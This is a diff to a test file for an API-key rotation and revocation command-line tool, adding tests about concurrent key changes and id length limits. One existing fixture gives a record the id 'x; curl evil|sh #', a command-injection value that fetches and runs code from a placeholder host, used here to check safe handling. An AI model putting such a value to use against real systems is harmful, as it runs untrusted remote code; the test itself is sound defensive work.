@@ -129,16 +129,19 @@ test('a rotation whose last change fails has printed a valid key', async () => {
   expect(fake.records()[0]).toMatchObject({ expiresAt: '2027-01-31T00:15:00.000Z' });
 });
 
-test('a key that another operator revokes before the answer is not rotated', async () => {
+test.each([
+  ['is revoked', REVOKED],
+  ['was replaced by key_b: rotate that one', { ...ANNA, rotatedTo: 'key_b' }],
+])('a key is not rotated that before the answer %s', async (problem, change) => {
   fake.put(ANNA);
   fake.before = (command) => {
-    if (command === 'get') fake.put(REVOKED);
+    if (command === 'get') fake.put(change);
   };
   expect(await fake.run('rotate key_anna --env production', 'y\n')).toMatchObject({
     code: 1,
-    stderr: expect.stringContaining('key_anna (Anna) is revoked\n'),
+    stderr: expect.stringContaining(`key_anna (Anna) ${problem}\n`),
   });
-  expect(fake.records()).toEqual([REVOKED]);
+  expect(fake.records()).toEqual([change]);
 });
 
 /** Runs a command that must fail and change nothing. Returns its error. `typed`: on a terminal. */
@@ -171,6 +174,7 @@ test.each([
   ['no label', { label: undefined }],
   ['an id for a shell', { id: 'x; curl evil|sh #' }],
   ['an id that is an option', { id: '--yes' }],
+  ['an id of 65 characters', { id: 'x'.repeat(65) }],
 ])('a record with %s is named, and other keys are revoked all the same', async (_, change) => {
   fake.put(ANNA);
   fake.put({ ...ANNA, ...change }, 'key:x\u001b');
@@ -192,6 +196,12 @@ test.each([
   fake.put({ ...planted, more: 'x'.repeat(length) });
   expect(await fake.run('revoke key_anna')).toMatchObject({ code: 0, stderr: warning });
   expect(fake.records()).toMatchObject([{ ...planted, revokedAt: NOW }]);
+});
+
+test('an id may have 64 characters', async () => {
+  const id = 'x'.repeat(64);
+  fake.put({ ...ANNA, id });
+  expect((await fake.run(`revoke ${id}`)).code).toBe(0);
 });
 
 test('a list names a key that a restore would make active again', async () => {
